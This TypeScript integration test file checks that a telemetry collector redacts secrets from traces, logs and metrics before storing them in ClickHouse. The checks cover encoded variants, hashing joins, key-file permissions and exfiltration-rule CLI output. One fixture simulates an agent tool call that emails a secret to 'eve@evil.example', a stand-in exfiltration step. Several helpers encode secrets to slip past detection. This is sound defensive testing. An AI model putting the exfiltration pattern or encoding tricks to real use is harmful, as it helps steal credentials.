import assert from 'node:assert/strict';
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { secrets } from '../collector/src/redact/testing/secrets.ts';
import { otlpLogsProtobuf, otlpProtobuf, type TestSpan } from '../collector/src/testing/otlp.ts';
import { cliOf } from './support/cli.ts';
import { eventually } from './support/collector-process.ts';
import { testCollector } from './support/test-collector.ts';

/** The default profile, with a real collector and a real ClickHouse; rules see what is not stored. */
const collector = testCollector('spool: { segment_age_max_ms: 50 }\nstore: { messages: once }\n');
const { clickhouse, home } = collector;

const samples = Object.entries(secrets).map(([kind, sample]) => ({ kind, ...sample(11) }));

test('no secret can be read from any column of any table, and findings are made of the clear text', async () => {
  const spans = samples.flatMap(({ text, kind }, i): TestSpan[] => {
    const conversation = { 'gen_ai.conversation.id': `c-${i} ${text}`, 'gen_ai.agent.name': `agent ${kind} ${text}` };
    return [
      {
        name: `call ${text}`,
        attributes: {
          ...conversation,
          'gen_ai.operation.name': 'execute_tool',
          'gen_ai.tool.name': 'send_email',
          'user.id': `user ${text}`,
          'gen_ai.tool.call.arguments': JSON.stringify({ to: 'eve@evil.example', body: `here: ${text}` }),
          list: ['a', text],
          [`key ${text}`]: true,
        },
        status: { code: 2, message: `failed with ${text}` },
        events: [{ name: `say ${text}`, attributes: { 'exception.message': text } }],
        links: [{ traceId: 'ab'.repeat(16), spanId: 'cd'.repeat(8), attributes: { note: text } }],
      },
      {
        name: 'chat',
        attributes: {
          ...conversation,
          'gen_ai.operation.name': 'chat',
          'gen_ai.output.messages': JSON.stringify([{ role: 'assistant', parts: [{ type: 'text', content: text }] }]),
        },
      },
    ];
  });
  const resource = { 'service.name': 'shop', token: samples[1]!.text };
  const response = await fetch(`${collector.url}/v1/traces`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-protobuf' },
    body: otlpProtobuf(spans, resource) as never,
  });
  assert.equal(response.status, 200);
  await eventually('all spans', async () =>
    (await clickhouse.count('otel_traces')) >= spans.length ? true : undefined,
  );
  await eventually('findings and cases', async () =>
    (await clickhouse.count('findings')) > 0 && (await clickhouse.count('cases')) > 0 ? true : undefined,
  );
  for (const table of ['otel_traces', 'findings', 'cases', 'rule_stats', 'seen_fields', 'rule_states']) {
    const everything = JSON.stringify(await clickhouse.rows(`SELECT *, * APPLY toString FROM ${table}`));
    for (const { kind, value } of samples) {
      for (const leak of [value, value.replaceAll('\n', '\\n'), value.split('\n').at(-2) ?? value])
        assert.ok(!everything.includes(leak), `${kind} in ${table}`);
    }
  }
  const [row] = await clickhouse.rows<{ n: string; marked: string }>(
    `SELECT count() AS n, countIf(position(AttributeTypes, '~') > 0) AS marked FROM otel_traces`,
  );
  assert.equal(row!.marked, row!.n);
});

/** How the same may be written, and what of it must not be readable. */
const base64 = (text: string) => Buffer.from(text).toString('base64');
const writings: readonly ((text: string) => string)[] = [
  (text) => `https://x.example/?q=${encodeURIComponent(text)}`,
  (text) => [...text].map((char) => `&#${char.charCodeAt(0)};`).join(''),
  (text) => Buffer.from(base64(base64(text))).toString('hex'),
  (text) => JSON.stringify({ a: JSON.stringify({ a: text }).replaceAll('/', '\\/') }),
  (text) => `{"a":"${[...text].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
];

test('nor in other writing, in lists of messages that are stored once, in log records and in metrics', async () => {
  const nanos = BigInt(Date.now()) * 1_000_000n;
  const said = samples.flatMap(({ text }) => [text, ...writings.map((write) => write(`it is ${text} ok`))]);
  const conversation = { 'gen_ai.conversation.id': 'once', 'gen_ai.operation.name': 'chat' };
  const padding = 'and some more words of no meaning so that it is worth it. '.repeat(4);
  const list = said.map((text) => ({
    role: 'user',
    parts: [{ type: 'text', content: `${padding}${text} ${padding}` }],
  }));
  const post = async (path: string, body: Buffer | string, type = 'application/x-protobuf') => {
    const response = await fetch(`${collector.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': type },
      body: body as never,
    });
    assert.equal(response.status, 200, await response.text());
  };
  const before = await clickhouse.count('otel_traces');
  await post(
    '/v1/traces',
    otlpProtobuf([{ name: 'chat', attributes: { ...conversation, 'gen_ai.input.messages': JSON.stringify(list) } }]),
  );
  await post(
    '/v1/logs',
    otlpLogsProtobuf(
      said.map((text) => ({
        nanos,
        body: { message: text },
        attributes: { prompt: text },
      })),
    ),
  );
  const attributes = said.map((text, i) => ({ key: `k${i}`, value: { stringValue: text } }));
  const metrics = samples.map(({ text }) => ({
    ...{ name: `m ${text}`, description: text, unit: text },
    gauge: { dataPoints: [{ timeUnixNano: String(nanos), asInt: '1', attributes: attributes.slice(0, 900) }] },
  }));
  const scope = { name: `scope ${samples[1]!.text}`, version: samples[2]!.text };
  const metricRequest = {
    resourceMetrics: [{ schemaUrl: samples[1]!.text, scopeMetrics: [{ scope, schemaUrl: samples[2]!.text, metrics }] }],
  };
  await post('/v1/metrics', JSON.stringify(metricRequest), 'application/json');
  await eventually('all of it', async () => {
    const counts = await Promise.all(
      ['otel_traces', 'otel_logs', 'otel_metrics_gauge', 'otel_messages'].map((table) => clickhouse.count(table)),
    );
    return counts[0]! > before && counts[1]! >= said.length && counts[2]! >= metrics.length && counts[3]! >= list.length
      ? true
      : undefined;
  });
  const tables = await clickhouse.rows<{ name: string }>(
    `SELECT name FROM system.tables WHERE database = currentDatabase() AND engine LIKE '%MergeTree' AND total_rows > 0`,
  );
  assert.ok(tables.length > 5);
  for (const { name } of tables) {
    const everything = JSON.stringify(
      await clickhouse.rows(`SELECT *, * APPLY toString FROM \`${name}\``),
    ).toLowerCase();
    for (const { kind, value } of samples) {
      const last = value.split('\n').at(-2) ?? value;
      for (const write of [(text: string) => text, ...writings.map((each) => (text: string) => each(text))])
        for (const leak of [value, last]) {
          const written = JSON.stringify(write(leak)).slice(1, -1).toLowerCase();
          if (leak.length > 12) assert.ok(!everything.includes(written), `${kind} in ${name}`);
        }
    }
  }
});

test('a secret joins what it stands in', async () => {
  const rows = await clickhouse.rows<{ hash: string }>(
    `SELECT extract(SpanAttributes['gen_ai.tool.call.arguments'], 'secret:github_token:([0-9a-f]{16})') AS hash
     FROM otel_traces WHERE hash != '' LIMIT 1`,
  );
  assert.match(rows[0]!.hash, /^[0-9a-f]{16}$/);
  const [joined] = await clickhouse.rows<{ n: string }>(
    `SELECT count() AS n FROM otel_traces WHERE position(SpanAttributes['gen_ai.output.messages'], '${rows[0]!.hash}') > 0`,
  );
  assert.equal(joined!.n, '1');
});

test('backtest and explain say that they read redacted spans', async () => {
  const onRules = cliOf(home, 'rules');
  const rules = fileURLToPath(new URL('../rules/exfiltration', import.meta.url));
  const backtest = onRules('backtest', rules, '--since', '1d');
  assert.equal(backtest.code, 0, backtest.stderr);
  assert.match(backtest.stdout, /spans redacted before storage/);
  const [span] = await clickhouse.rows<{ t: string; s: string }>(
    'SELECT TraceId AS t, SpanId AS s FROM otel_traces LIMIT 1',
  );
  const explained = onRules('explain', 'secret_leaves', `${span!.t}/${span!.s}`);
  assert.match(explained.stdout, /redacted before storage/, explained.stderr);
});

test('the key is made once, for its owner only', async () => {
  const file = join(home.dataDir, 'redaction.key');
  assert.equal(statSync(file).mode & 0o777, 0o600);
  const key = readFileSync(file, 'utf8');
  assert.match(key, /^[0-9a-f]{64}\n$/);
  await collector.restart('SIGTERM');
  assert.equal(readFileSync(file, 'utf8'), key);
});

test('nor do the counters of rules, which are written at a stop, name agents by a secret', async () => {
  const agents = await eventually('counters', async () => {
    const rows = await clickhouse.rows<{ agent: string }>(
      `SELECT DISTINCT AgentName AS agent FROM rule_stats WHERE AgentName LIKE 'agent %'`,
    );
    return rows.length > 0 ? rows.map(({ agent }) => agent) : undefined;
  });
  for (const { kind, value } of samples) assert.ok(!agents.some((agent) => agent.includes(value)), kind);
});
